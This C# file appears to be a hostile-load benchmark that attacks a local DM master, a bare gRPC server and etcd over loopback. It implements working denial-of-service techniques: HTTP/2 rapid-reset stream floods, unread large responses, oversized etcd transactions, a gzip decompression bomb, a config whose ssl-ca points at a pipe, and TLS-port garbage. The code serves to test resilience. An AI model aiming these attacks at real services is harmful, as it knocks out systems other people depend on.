using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Text;
using DmMaster.Protocol.Dm;
using DmMaster.Protocol.Etcd;
using Google.Protobuf;
using Grpc.Health.V1;

namespace DmMaster.Benchmarks.Hostile;

/// <summary>The attacks. All go to loopback, and end by themselves.</summary>
internal static class Attacks
{
    private const int Mebi = 1 << 20;
    private const int UnreadCalls = 50;
    private const int ResetsAtOnce = 500;
    private const int RangesEach = 300;
    private const int UnpackedBytes = 60 * Mebi;
    private const uint LargestWindow = int.MaxValue;

    /// <summary>Made once, by whoever comes first: it takes longer than to send it.</summary>
    private static readonly Lazy<byte[]> Packed = new(Pack);

    private static readonly VictimKind[] Everybody = [VictimKind.Master, VictimKind.Bare, VictimKind.Etcd];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<Attack> All =>
    [
        new("streams opened and reset at once", 1, ResetStreams) { Victims = Everybody },
        new("large answers that nobody reads", 20, LeaveUnread) { Victims = Everybody, StateBytes = 16 * Mebi, ValueBytes = 4000 },
        new("transactions of 300 ranges", 1, SendTxns) { Victims = [VictimKind.Master, VictimKind.Etcd], StateBytes = 2 * Mebi },
        new("messages of 60 kB that unpack to 60 MiB", 30, SendGzip) { Victims = Everybody },
        new("sources whose ssl-ca is a pipe", 60, NamePipes) { Victims = [VictimKind.Master] },
        new("garbage on the TLS port", 4, SendGarbage) { Victims = Everybody, IsTls = true },
    ];

    private static long ResetStreams(Victim victim, CancellationToken over)
    {
        byte[] cancel = [0, 0, 0, 8];
        var count = 0L;
        var buffer = new byte[4096];
        while (!over.IsCancellationRequested)
        {
            using var connection = new RawHttp2(victim.Uri, ushort.MaxValue);
            connection.Drain(buffer);
            connection.Send(RawHttp2.Frame(RawHttp2.Settings, 1, 0, []));
            for (var stream = 1; !over.IsCancellationRequested && TrySend(connection, stream); stream += 2 * ResetsAtOnce)
            {
                count += ResetsAtOnce;
            }
        }

        return count;

        bool TrySend(RawHttp2 connection, int first)
        {
            using var batch = new MemoryStream();
            for (var i = 0; i < ResetsAtOnce; i++)
            {
                batch.Write(RawHttp2.Call(first + (2 * i), victim.Small.Path, victim.Small.Request));
                batch.Write(RawHttp2.Frame(RawHttp2.Reset, 0, first + (2 * i), cancel));
            }

            return Succeeds(() => connection.Send(batch.ToArray()));
        }
    }

    private static long LeaveUnread(Victim victim, CancellationToken over)
    {
        var count = 0L;
        while (!over.IsCancellationRequested)
        {
            using var connection = new RawHttp2(victim.Uri, 0);
            for (var i = 0; i < UnreadCalls && Succeeds(() => connection.Send(RawHttp2.Call(1 + (2 * i), victim.LargePath, victim.LargeRequest))); i++)
            {
                count++;
            }

            // What comes is refusals and the server's own frames; an end of the connection is a reason for another one.
            var buffer = new byte[4096];
            while (!over.IsCancellationRequested && connection.Drain(buffer) != 0)
            {
            }
        }

        return count;
    }

    private static long SendTxns(Victim victim, CancellationToken over)
    {
        var txn = new TxnRequest();
        for (var i = 0; i < RangesEach; i++)
        {
            txn.Success.Add(new RequestOp { RequestRange = RangeRequest.Parser.ParseFrom(victim.LargeRequest) });
        }

        return Repeat(victim, RawHttp2.Call(1, "/etcdserverpb.KV/Txn", txn.ToByteArray()), over);
    }

    private static long SendGzip(Victim victim, CancellationToken over) =>
        Repeat(victim, RawHttp2.Call(1, victim.TextPath, Packed.Value, isGzip: true), over);

    private static byte[] Pack()
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            // The first field of all three is a text.
            gzip.Write(new HealthCheckRequest { Service = new string('a', UnpackedBytes) }.ToByteArray());
        }

        return packed.ToArray();
    }

    private static long NamePipes(Victim victim, CancellationToken over)
    {
        var source = $"source-id: \"s{Environment.CurrentManagedThreadId}\"\nflavor: mysql\nserver-id: 5\nfrom:\n  host: \"127.0.0.1\"\n  port: 1\n" +
            "  user: root\n  password: \"\"\n  security: {ssl-ca: \"/dev/ptmx\"}\n";
        var request = new OperateSourceRequest { Op = SourceOp.StartSource, Config = { source } };
        return Repeat(victim, RawHttp2.Call(1, "/pb.Master/OperateSource", request.ToByteArray()), over);
    }

    private static long SendGarbage(Victim victim, CancellationToken over)
    {
        var count = 0L;
        var garbage = Encoding.ASCII.GetBytes(new string('x', 200));
        var buffer = new byte[4096];
        while (!over.IsCancellationRequested)
        {
            using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { ReceiveTimeout = 1000, LingerState = new(enable: true, seconds: 0) };
            Succeeds(() =>
            {
                socket.Connect(IPAddress.Parse(victim.Uri.Host), victim.Uri.Port);
                socket.Send(garbage);
                socket.Receive(buffer);
            });
            count++;
        }

        return count;
    }

    /// <summary>Makes a call, reads its answer until nothing comes for a second, or the connection ends, and so on.</summary>
    private static long Repeat(Victim victim, byte[] call, CancellationToken over)
    {
        var count = 0L;
        var buffer = new byte[Mebi];
        while (!over.IsCancellationRequested)
        {
            using var connection = new RawHttp2(victim.Uri, LargestWindow);
            if (Succeeds(() =>
            {
                connection.OpenWindow();
                connection.Send(call);
            }))
            {
                count++;
            }

            var hasAnswer = false;
            while (!over.IsCancellationRequested && connection.Drain(buffer) is var read && read != 0 && !(read is null && hasAnswer))
            {
                hasAnswer = hasAnswer || read > 200;
            }
        }

        return count;
    }

    private static bool Succeeds(Action action)
    {
        try
        {
            action();
            return true;
        }
        catch (SocketException)
        {
            return false;
        }
    }
}
